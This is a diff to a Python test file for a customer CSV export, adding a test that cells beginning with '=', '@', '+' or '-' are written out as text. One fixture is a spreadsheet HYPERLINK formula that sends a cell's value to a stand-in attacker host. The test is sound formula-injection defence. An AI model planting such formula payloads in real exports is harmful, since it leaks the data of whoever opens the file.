@@ -66,8 +66,18 @@ class TestList:
         rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
         assert rows[0][:3] == ["Name", "Phone", "Card"]
         assert [(r[0], r[1], r[4], r[5]) for r in rows[1:]] == [
-            ("Anna Petrova", "+79123456789", "Silver", "1000"),
-            ("Boris Sidorov", "+79001112233", "Bronze", "50"),
+            ("Anna Petrova", "'+79123456789", "Silver", "1000"),  # "+…" would be a formula to a spreadsheet
+            ("Boris Sidorov", "'+79001112233", "Bronze", "50"),
+        ]
+
+    def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(self, console, program, customer_factory):
+        customer_factory(name='=HYPERLINK("http://evil.example/?"&A1,"Click")', email="-x@example.com")
+        customer_factory(name="@SUM(1+1)")
+        response = console.get("/customers/", {"sort": "name", "export": "csv"})
+        rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+        assert [(r[0], r[3]) for r in rows[1:]] == [
+            ("'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'-x@example.com"),
+            ("'@SUM(1+1)", ""),
         ]
 
     def test_bad_filter_values_say_so(self, console, shop):
